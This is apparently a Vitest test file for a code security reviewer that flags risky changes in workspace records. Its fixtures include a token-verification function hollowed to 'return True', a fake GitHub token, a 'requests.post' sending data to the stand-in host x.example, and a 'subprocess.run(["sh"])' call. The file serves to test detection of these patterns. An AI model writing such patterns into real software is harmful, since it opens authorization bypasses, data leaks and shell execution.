import { describe, expect, it } from 'vitest'
import { MemoryBlobStore, sha256Hex } from '../../node/workspace/blob-store.js'
import { diffStates, type CodeDelta } from '../../node/workspace/delta.js'
import { changedLines, securityReview, type ReviewItem } from '../../node/workspace/review.js'
import { emptyState, type WorkspaceState } from '../../node/workspace/scan.js'
import { extractUnits } from '../../node/workspace/units.js'

function state (files: Record<string, string>): WorkspaceState {
  const s: WorkspaceState = { v: 1, files: {} }
  for (const [path, text] of Object.entries(files)) {
    s.files[path] = { fileHash: sha256Hex(text), units: extractUnits(path, text).units }
  }
  return s
}

const item = (recordId: string, delta: CodeDelta | null, quarantined: string | null = null): ReviewItem => ({ recordId, signer: 'peer-5f3a', actor: 'claude-7f3a', quarantined, delta })

const T = { files: 20, lines: 2000 }

const BEFORE = { 'src/auth/verify.py': 'import hmac\n\n\ndef verify_token(t, s):\n    if not t:\n        raise PermissionError("no")\n    return hmac.compare_digest(t, s)\n' }

describe('securityReview', () => {
  it('names the record, file:function, rule, severity and an excerpt, and marks quarantined records', async () => {
    const base = diffStates(emptyState(), state(BEFORE)).delta
    const bad = diffStates(state(BEFORE), state({ 'src/auth/verify.py': 'import hmac\n\n\ndef verify_token(t, s):\n    return True\n' })).delta
    const flags = await securityReview([item('rec-bad', bad, 'beyond_cut')], { history: [item('rec-base', base)], thresholds: T })
    expect(flags).toEqual([{
      recordId: 'rec-bad',
      signer: 'peer-5f3a',
      actor: 'claude-7f3a',
      quarantined: 'beyond_cut',
      path: 'src/auth/verify.py',
      name: 'verify_token',
      location: 'src/auth/verify.py:verify_token',
      rule: 'security-function-hollowed',
      category: 'weakened-logic',
      reason: 'function verify_token reduced to an unconditional return (it is a guard: it denies access (401/403, an authorization error))',
      severity: 'high',
      excerpt: 'return True',
      // The line within the unit, and the record to rewind the function to.
      evidence: { line: 2, api: null, before: null, after: null, detail: null, rewindTo: 'rec-base' }
    }])
  })

  it('never prints a secret in full', async () => {
    const key = 'ghp_R7x2KqVb9LmT4wNc8ZyP1sDf6HgJ3aEo5UiQ'
    const d = diffStates(emptyState(), state({ 'src/gh.ts': `export const token = '${key}'\n` })).delta
    const [f] = await securityReview([item('r', d)], { thresholds: T })
    expect(f).toMatchObject({ rule: 'secret', severity: 'high', location: 'src/gh.ts:<module>' })
    expect(f.excerpt).not.toContain(key)
    expect(f.excerpt).toContain('ghp_')
  })

  it('flags a network call as new only when the previous version lacked it, and says when it cannot know', async () => {
    const v1 = { 'a.py': 'import requests\n\n\ndef get(u):\n    return requests.get(u)\n' }
    const v2 = { 'a.py': 'import requests\n\n\ndef get(u):\n    return requests.get(u, timeout=3)\n' }
    const v3 = { 'a.py': 'import requests\n\n\ndef get(u):\n    requests.post("https://x.example", data=u)\n    return requests.get(u, timeout=3)\n' }
    const base = diffStates(emptyState(), state(v1)).delta
    const d2 = diffStates(state(v1), state(v2)).delta
    const d3 = diffStates(state(v2), state(v3)).delta
    expect(await securityReview([item('r2', d2)], { history: [item('b', base)], thresholds: T })).toEqual([])
    const flags = await securityReview([item('r3', d3)], { history: [item('b', base), item('r2', d2)], thresholds: T })
    expect(flags.map((f) => f.reason)).toEqual(['new network call requests.post: calls a new external host x.example'])
    // Without the earlier records the previous version is unknown: flagged, and said so.
    const blind = await securityReview([item('r3', d3)], { thresholds: T })
    expect(blind.map((f) => f.reason)).toEqual(['new network call requests.post: calls a new external host x.example (previous version not available)', 'new network call requests.get: calls an address given at run time or on this origin (previous version not available)'])
  })

  it('uses the configured large-diff thresholds', async () => {
    const files: Record<string, string> = {}
    for (let i = 0; i < 5; i++) files[`m${i}.js`] = `function f${i} () {\n  return ${i}\n}\n`
    const d = diffStates(emptyState(), state(files)).delta
    expect((await securityReview([item('r', d)], { thresholds: { files: 4, lines: 2000 } })).map((f) => f.rule)).toEqual(['large-diff'])
    expect(await securityReview([item('r', d)], { thresholds: { files: 5, lines: 2000 } })).toEqual([])
    expect((await securityReview([item('r', d)], { thresholds: { files: 50, lines: 10 } })).map((f) => f.rule)).toEqual(['large-diff'])
  })

  it('reads large texts from blobs, and reports the texts it cannot read', async () => {
    const body = `def helper():\n${'    x = 1\n'.repeat(2500)}    subprocess.run(["sh"])\n`
    const { delta, blobs } = diffStates(emptyState(), state({ 'big.py': `import subprocess\n\n\n${body}` }))
    expect((await securityReview([item('r', delta)], { thresholds: { files: 20, lines: 1e6 } })).map((f) => f.rule)).toEqual(['unreviewable', 'network-call'])
    const store = new MemoryBlobStore()
    for (const b of blobs.values()) await store.put(b)
    const flags = await securityReview([item('r', delta)], { blobs: store, thresholds: { files: 20, lines: 1e6 } })
    expect(flags.map((f) => `${f.location} ${f.reason}`)).toEqual(['big.py:<module> new import of subprocess (process execution)', 'big.py:helper new process execution subprocess.run: runs sh'])
  })

  it('passes over records without code', async () => {
    expect(await securityReview([item('incident', null)], { thresholds: T })).toEqual([])
  })
})

describe('changedLines', () => {
  it('counts removed and added lines, ignoring blank lines and moves', () => {
    expect(changedLines('a\nb\nc', 'a\nc\nd')).toBe(2)
    expect(changedLines('a\nb', 'b\n\na')).toBe(0)
    expect(changedLines(null, 'x\ny')).toBe(2)
  })
})
